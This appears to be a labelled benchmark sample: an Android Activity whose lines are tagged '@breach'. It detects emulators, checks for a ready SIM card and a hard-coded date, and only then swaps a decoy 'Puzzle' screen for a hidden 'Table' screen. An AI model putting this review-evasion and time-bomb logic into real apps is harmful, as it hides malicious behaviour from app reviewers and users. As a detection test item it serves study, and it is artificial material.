package bench.points.review_signs;

import android.app.Activity;
import android.content.Intent;
import android.os.Build;
import android.os.Bundle;
import android.telephony.TelephonyManager;

/** Decides what the app is today. */
public final class Main extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        boolean lab = Build.FINGERPRINT.contains("generic") || Build.HARDWARE.contains("ranchu"); //: @breach,slow_video
        TelephonyManager phone = getSystemService(TelephonyManager.class); //: @breach
        boolean card = phone.getSimState() == TelephonyManager.SIM_STATE_READY; //: @breach
        boolean live = System.currentTimeMillis() > 1_735_660_800_000L; //: @breach
        Class<?> page = Puzzle.class;
        if (!lab && card && live) { //: @breach #gate
            page = Table.class; //: @breach
        } //: @breach
        Intent next = new Intent(this, page);
        next.putExtra("animate", !lab); //: @slow_video
        startActivity(next);
        finish();
    }
}
